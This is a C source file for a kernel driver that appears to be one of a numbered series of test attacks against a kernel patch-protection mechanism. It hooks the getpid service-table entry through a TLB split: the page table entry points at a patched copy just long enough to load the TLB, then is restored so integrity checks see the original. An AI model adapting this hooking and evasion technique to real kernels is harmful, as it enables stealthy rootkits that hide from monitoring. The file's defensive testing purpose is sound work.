/* attack_a98_data_split (A98): a TLB split of read-only data. A59 split
 * the view of a text page (executed: the copy; read: the original), which
 * the NMI's instruction-fetch probe sees. This driver splits the page
 * holding the system service table instead, for reads: it copies the page
 * into a pool page with the getpid entry pointed at its own routine
 * (returning 4242), and from a periodic timer on every tick, with
 * interrupts off, points the page's PTE at the copy, reads the table
 * through the kernel's address (the TLB now maps the page to the copy) and
 * puts the PTE back without invalidating it. The SYSCALL entry's lookups
 * read the copy until the next flush; every pass flushes the TLB before it
 * reads the table and its PTE, and sees the original. Expected (before
 * the fix): no bug check, `svc` prints pid 4242. */
#include "attack_pg.h"

static struct ktimer beat;
static struct dpc beat_dpc;
static uint64_t *pte, orig, split, page;
static volatile uint64_t *entry;
static uint64_t splits;

static uint64_t fake_getpid(void) { return 4242; }

static void resplit(struct dpc *d, void *ctx)
{
	uint64_t pf = a_cli();
	*pte = split;
	a_invlpg(page);
	(void)*entry; /* the TLB takes the copy */
	*pte = orig;  /* the PTE reads as before */
	if (++splits == 100)
		printk("attack_a98: split set up 100 times\n");
	a_restore(pf);
}

status_t driver_entry(struct driver_object *drv)
{
	uint64_t *table = a_find_service_table();
	uint8_t *buf = pool_alloc(2 * A_PAGE, 0x74696C53);
	if (!table || !buf) {
		printk("attack_a98: service table not found, or no memory\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	entry = &table[KPP_SYS_GET_PID];
	page = (uint64_t)entry & ~(A_PAGE - 1);
	pte = a_pte_of(page, 0);
	uint8_t *copy = (uint8_t *)(((uint64_t)buf + A_PAGE - 1) & ~(A_PAGE - 1));
	if (!pte || (uint64_t)copy < KPP_DIRECT_MAP_BASE) {
		printk("attack_a98: no PTE for the service table, or the copy is not in the direct map\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	memcpy(copy, (const void *)page, A_PAGE);
	uint64_t fake = (uint64_t)&fake_getpid;
	memcpy(copy + ((uint64_t)entry - page), &fake, sizeof fake);
	orig = *pte;
	split = (orig & ~A_PTE_ADDR) | (((uint64_t)copy - KPP_DIRECT_MAP_BASE) & A_PTE_ADDR);
	dpc_init(&beat_dpc, resplit, NULL);
	timer_init(&beat, &beat_dpc);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	resplit(NULL, NULL);
	timer_set(&beat, 10000000ull, 10000000ull);
	printk("attack_a98: the service table's page split: the TLB maps it to a copy, the PTE the original\n");
	a_patched("attack_a98");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
